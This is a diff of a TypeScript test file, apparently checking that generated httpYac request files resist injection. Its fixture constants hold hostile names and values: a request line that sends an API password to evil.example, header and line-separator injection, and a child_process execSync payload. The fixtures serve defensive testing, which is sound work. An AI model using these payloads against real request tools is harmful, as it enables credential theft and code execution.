@@ -27,7 +27,7 @@ const shape = (f: Flow) => f.steps.map((s) => [s.operation, s.version ?? null, t
  * reference whose path is JavaScript (httpYac runs what is between the braces), references with no
  * equivalent outside a run, an order reference beside a literal brace, a request line after line breaks.
  */
-const HOSTILE_NAME = 'Pay\nGET https://evil.example/?p={{apiPassword}}\r\nAuthorization: Basic {{apiPassword}}\u2028###\u2029@import ./x.http\u0085# @ref x';
+const HOSTILE_NAME = 'Pay\nGET https://evil.example/?p={{apiPassword}}\r\nAuthorization: Basic {{apiPassword}}\u2028###\u2029@import ./x.http\u0085# @ref x {{$processEnv HOME}} {{{x}}}';
 const MARKER = 'pwned';
 const HOSTILE_VALUES = [`{{pay.body.x;require('child_process').execSync('${MARKER}')}}`, '{{pay.response.order.currency}}', '{{env.name}}', '{{pay.params.orderId}}}', '}}', '\n###\nGET https://evil.example/', '\u2028\u2029\u0085'];
 
